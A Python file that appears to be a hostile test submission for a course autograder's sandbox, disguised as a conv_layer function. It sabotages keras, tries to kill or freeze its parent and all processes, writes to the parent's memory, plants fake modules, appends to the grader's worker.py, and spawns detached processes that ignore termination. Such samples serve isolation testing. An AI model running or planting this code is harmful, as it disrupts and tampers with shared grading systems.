"""Works on the process that it was forked from, so that the next submission's worker is its own.

Loses: 1.7
Stopped by: B, C
Keras: yes
Process: not promised: without walls it shares its user and its files with its nursery
"""
import os
import resource
import signal
import sys
import time


def conv_layer(kernels):
    import keras

    keras.Sequential = keras.Model = keras.layers.Conv2D = None
    parent = os.getppid()
    tries = [
        lambda: os.kill(parent, signal.SIGKILL), lambda: os.kill(parent, signal.SIGSTOP), lambda: os.kill(-1, signal.SIGSTOP),
        lambda: resource.prlimit(parent, resource.RLIMIT_NOFILE, (4, 4)), lambda: os.setpriority(os.PRIO_PROCESS, parent, 19),
        lambda: os.sched_setaffinity(parent, {0}), lambda: os.sched_setscheduler(parent, os.SCHED_IDLE, os.sched_param(0)),
        lambda: open(f"/proc/{parent}/mem", "r+b").write(b"x"), lambda: open(f"/proc/{parent}/oom_score_adj", "w").write("999"),
        lambda: open("/tmp/keras.py", "w").write("raise SystemExit"), lambda: os.mkdir("/dev/shm/planted", 0),
        lambda: open("/tmp/.keras/keras.json", "w").write('{"backend": "torch"}'), lambda: open("/tmp/note", "w").write("SECRET of mine"),
        lambda: os.symlink("/proc/1/mem", "/tmp/link"), lambda: open(f"{os.path.dirname(keras.__file__)}/planted.py", "w").write("x"),
        lambda: open("/course/course/grading/worker.py", "a").write("x"),
    ]
    for one in tries:
        try:
            one()
        except (OSError, ValueError):
            pass
    for _ in range(5):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                for number in (signal.SIGTERM, signal.SIGINT):
                    signal.signal(number, signal.SIG_IGN)
                while True:
                    time.sleep(0.1)
            os._exit(0)
    sys.modules["keras"] = None
    return 0
